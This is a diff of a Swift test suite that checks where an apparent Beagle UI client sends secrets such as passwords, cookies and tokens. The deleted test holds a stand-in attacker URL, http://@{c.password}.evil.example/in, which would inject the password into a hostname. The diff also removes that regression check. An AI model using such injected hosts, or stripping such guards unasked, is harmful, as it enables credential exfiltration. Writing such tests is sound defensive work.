@@ -12,7 +12,7 @@ struct SecretOriginTests {
     private static func form(posting places: [String], secure: Bool = true) -> String {
         let buttons = places.map {
             """
-            {"_beagleComponent_":"beagle:button","text":"To \($0.replacing("@{", with: ""))","onPress":[{"_beagleAction_":"beagle:sendRequest",
+            {"_beagleComponent_":"beagle:button","text":"To \($0)","onPress":[{"_beagleAction_":"beagle:sendRequest",
              "url":"\($0)?p=@{c.password}","method":"POST","headers":{"X-Pass":"@{c.password}","Cookie":"@{c.cookie}"},
              "data":{"password":"@{c.password}"},
              "onSuccess":[{"_beagleAction_":"beagle:setContext","contextId":"c","path":"token","value":"@{onSuccess.data.token}"}]}]},
@@ -30,14 +30,14 @@ struct SecretOriginTests {
     }
 
     private func open(
-        _ backend: TestBackend, screen: String?, bff: String? = Self.home, places: [String]
+        _ backend: TestBackend, screen: String?, places: [String]
     ) async throws -> TestSession {
         let form = Self.form(posting: places)
         if let screen, let url = URL(string: screen) { backend.answer(url.path, with: .screen(form)) }
         var policy = SecretPolicy()
         policy.paths = ["token"].compactMap(SecretPath.init)
         let configuration = SessionConfiguration(
-            bff: bff.flatMap { URL(string: $0) }, screen: screen, screenJSON: screen == nil ? form : nil)
+            bff: URL(string: Self.home), screen: screen, screenJSON: screen == nil ? form : nil)
         return await TestSession(BeagleApp.init, configuration: configuration, backend: backend, secrets: policy)
     }
 
@@ -90,18 +90,6 @@ struct SecretOriginTests {
         #expect(try holdsPassword(#require(backend.requests.last)))
     }
 
-    @Test("Without a backend it goes to the first origin that it is sent to, and stays there")
-    func first() async throws {
-        let places = ["http://one.example/in", "http://two.example/in"]
-        let backend = TestBackend()
-        let session = try await open(backend, screen: nil, bff: nil, places: places)
-        try await session.type(Self.password, into: "Password")
-        try await session.tap("To \(places[0])")
-        #expect(try holdsPassword(#require(backend.requests.last)))
-        try await session.tap("To \(places[1])")
-        #expect(try !holdsPassword(#require(backend.requests.last)))
-    }
-
     @Test("A secret of an answer goes back to where the answer came from, after its redirects, and nowhere else")
     func answer() async throws {
         let token = "t0ken-of-the-answer"
@@ -122,16 +110,6 @@ struct SecretOriginTests {
             #expect(backend.requests.last?.headers["X-Token"]?.isEmpty == false)
             #expect(backend.requests.last?.headers["X-Token"] != token)
         }
-    }
-
-    @Test("No secret becomes part of a host's name")
-    func hostName() async throws {
-        let backend = TestBackend()
-        let session = try await open(
-            backend, screen: nil, bff: nil, places: ["http://@{c.password}.evil.example/in"])
-        try await session.type("abcdefgh", into: "Password")
-        try await session.tap("To http://c.password}.evil.example/in")
-        #expect(backend.requests.last?.url.absoluteString.contains("abcdefgh.evil") != true)
     }
 
     @Test("Documents do not set how a request is carried, and the log says so")
